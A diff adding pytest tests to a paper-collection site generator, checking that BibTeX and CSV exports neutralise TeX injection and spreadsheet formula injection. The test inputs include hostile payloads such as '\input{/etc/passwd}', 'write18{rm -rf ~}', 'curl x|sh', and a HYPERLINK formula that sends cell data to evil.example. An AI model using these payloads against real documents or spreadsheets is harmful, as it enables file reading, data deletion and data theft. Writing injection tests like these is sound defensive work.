@@ -9,15 +9,19 @@ import io
 import json
 import re
 from pathlib import Path
+from urllib.parse import unquote
 
 import bibtexparser
 import jsonschema
 import pytest
 
-from generator import bibtex, exports
+from generator import bibtex, exports, pages
 from generator.build import generate
+from generator.context import Context, site_settings
 from generator.model import Collection, Paper
 from generator.records import load_collection
+from generator.render import Renderer
+from tests.tools.bibtext import inert, names_of, text_of
 
 
 def parse_bib(text: str) -> bibtexparser.Library:
@@ -82,8 +86,105 @@ def test_hostile_values_parse_as_one_entry() -> None:
     assert len(library.entries) == 1
     assert field(library.entries[0], "title").startswith(
         r"Closing \textbraceright{} brace, @misc\textbraceleft{}evil, 50\% off")
-    assert field(library.entries[0], "doi") == "10.1000/a_b%7D%7Bc%d"
-    assert field(library.entries[0], "url") == "https://doi.org/10.1000/a_b%7D%7Bc%d"
+    assert field(library.entries[0], "doi") == "10.1000/a_b%7D%7Bc%25d"
+    assert field(library.entries[0], "url") == "https://doi.org/10.1000/a_b%7D%7Bc%25d"
+
+
+@pytest.mark.parametrize("math", [
+    r"$\input{/etc/passwd}$", r"$\immediate\write18{rm -rf ~}$", r"$\catcode`\@=11$",
+    r"$\def\x{y}$", r"$^^5cinput{/etc/passwd}$", r"$x % comment$", r"$a & b$", r"$#1$",
+    r"$\\input x$", r"$\csname input\endcsname$",
+])
+def test_math_that_could_run_tex_is_written_as_text(math: str) -> None:
+    """Issue 12, class 4: only harmless math reaches the reader's LaTeX as TeX."""
+    record = paper(title=f"T {math}", abstract=f"A {math} b", venue=f"V {math}",
+                   authors=(f"N {math}",))
+    entry = parse_bib(bibtex.entry(record, "k", abstract=True)).entries[0]
+    for name in ("title", "abstract", "booktitle", "author"):
+        value = field(entry, name)
+        assert "$" not in value.replace("\\$", ""), (name, value)
+        assert not re.search(r"\\(?!textbackslash\{\}|textbrace(left|right)\{\}|[%&#_$^~])",
+                             value), (name, value)
+        assert text_of(value).endswith(math + (" b" if name == "abstract" else ""))
+
+
+def test_the_cite_block_and_every_bib_file_write_tex_injection_as_text(
+        toy_project: Path) -> None:
+    """The paper page's Cite block and the paper, topic and collection .bib files all
+    come from one entry: none of them carries the record's TeX to the reader's LaTeX."""
+    collection, _ = load_collection(toy_project)
+    evil = dataclasses.replace(
+        collection.papers["nnose"], title=r"Skills $\input{/etc/passwd}$",
+        abstract=r"See $\immediate\write18{curl x|sh}$ and $\catcode`\^^M=13$.",
+        authors=("Procter and Gamble Research Lab", "Doe, Jane"),
+        doi=r"10.1000/x}\input{y}%")
+    ctx = Context(toy_project, Collection({"nnose": evil}, collection.topics),
+                  Renderer(**site_settings(toy_project)))
+    files = dict(exports.bib_files(ctx))
+    page = dict(pages.paper_pages(ctx))["papers/nnose.md"]
+    cite = html.unescape(str(page).split('<div class="paper-bibtex', 1)[1]
+                         .split("<code>", 1)[1].split("</code>", 1)[0])
+    for text in [cite, *(str(files[name]) for name in (
+            "papers.bib", "papers/nnose.bib", "topics/skill-extraction.bib"))]:
+        entry = parse_bib(text).entries[0]
+        values = {name: f.value for name, f in entry.fields_dict.items()}
+        assert all(inert(values[name]) for name in values
+                   if name in ("title", "author", "abstract")), values
+        assert text_of(values["title"]) == evil.title
+        assert names_of(values["author"]) == list(evil.authors)
+        assert unquote(values["doi"]) == evil.doi
+        assert not re.search(r"\\(input|immediate|write|catcode)", text)
+        if "abstract" in values:
+            assert text_of(values["abstract"]) == evil.abstract
+
+
+@pytest.mark.parametrize("math", [
+    "$N^k$", r"$\mathcal{O}(n^2)$", r"$\sum_{i=1}^n i$", "$x^2 < y$",
+    r"$\alpha \leq \frac{1}{2}$", r"$\{a, b\} \in \mathbb{R}^{d}$", r"$\sim 0.1$",
+])
+def test_harmless_math_stays_tex(math: str) -> None:
+    assert bibtex.escape(f"cost {math} here") == f"cost {math} here"
+    assert bibtex.protect_capitals(f"A {math} LLM") == f"A {math} {{LLM}}"
+
+
+def test_math_words_are_not_braced_as_capitals() -> None:
+    assert bibtex.protect_capitals(r"$a XY b$ in GPT") == r"$a XY b$ in {GPT}"
+
+
+@pytest.mark.parametrize(("authors", "names"), [
+    (("Procter and Gamble Research Lab", "Ana Li"),
+     "{Procter and Gamble Research Lab} and Ana Li"),
+    (("Doe, Jane",), "{Doe, Jane}"),
+    (("others",), "{others}"),
+    (("Research AND Development",), "{Research AND Development}"),
+    (("Anderson Andy", "Sandy Band"), "Anderson Andy and Sandy Band"),
+])
+def test_an_author_stays_one_author(authors: tuple[str, ...], names: str) -> None:
+    entry = parse_bib(bibtex.entry(paper(authors=authors), "k")).entries[0]
+    assert field(entry, "author") == names
+    assert names_of(field(entry, "author")) == list(authors)
+    assert bibtexparser.middlewares.names.split_multiple_persons_names(
+        field(entry, "author")) == [bibtex.name(a) for a in authors]
+
+
+@pytest.mark.parametrize(("doi", "written"), [
+    (r"10.1000/a\input{x}", "10.1000/a%5Cinput%7Bx%7D"),
+    ("10.1000/50%#1&2~$^", "10.1000/50%25%231%262%7E%24%5E"),
+])
+def test_doi_is_percent_encoded_where_tex_would_read_it(doi: str, written: str) -> None:
+    entry = parse_bib(bibtex.entry(paper(doi=doi), "k")).entries[0]
+    assert field(entry, "doi") == written and unquote(written) == doi
+    assert field(entry, "url") == f"https://doi.org/{written}"
+
+
+@pytest.mark.parametrize(("url", "written"), [
+    (r"https://x.org/a\input{b}^^5c", "https://x.org/a%5Cinput%7Bb%7D%5E%5E5c"),
+    ("https://x.org/a%20b?q=1&r=2#frag", "https://x.org/a%20b?q=1&r=2#frag"),
+    ("https://x.org/100%", "https://x.org/100%25"),
+])
+def test_url_keeps_its_meaning_without_tex_specials(url: str, written: str) -> None:
+    entry = parse_bib(bibtex.entry(paper(links={"paper": url}), "k")).entries[0]
+    assert field(entry, "url") == written and unquote(written) == unquote(url)
 
 
 def keyed(papers: list[Paper]) -> dict[str, str]:
@@ -201,6 +302,23 @@ def test_csv_has_a_row_for_every_paper(toy_project: Path, toy_site: Path) -> Non
         assert row["topics"].split("; ") == list(record.topics)
         assert row["link_code"] == record.links.get("code", "")
         assert row["year"] == str(record.year)
+
+
+@pytest.mark.parametrize(("text", "cell"), [
+    ('=HYPERLINK("https://evil.example/?"&A1,"Click")', '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'),
+    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
+    ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
+    ("'quoted' title", "''quoted' title"), ("A = B", "A = B"), ("", ""),
+    ("line\rbreak", "line\rbreak"), ("two\nlines", "two\nlines"),
+])
+def test_csv_cells_that_start_like_formulas_get_a_quote(text: str, cell: str) -> None:
+    """Issue 12, class 5 (OWASP CSV injection); the JSON keeps the text exactly."""
+    assert exports.csv_cell(text) == cell
+    record = {column: "" for column in exports.CSV_COLUMNS} | {
+        "title": text, "authors": [text, "B"], "links": {"code": text}, "year": None}
+    row = next(csv.DictReader(io.StringIO(exports.csv_export([record]), newline="")))
+    assert row["title"] == row["authors"].removesuffix("; B") == row["link_code"] == cell
+    assert json.loads(json.dumps(record))["title"] == text
 
 
 def test_exports_are_byte_identical_between_builds(toy_project: Path, tmp_path: Path) -> None:
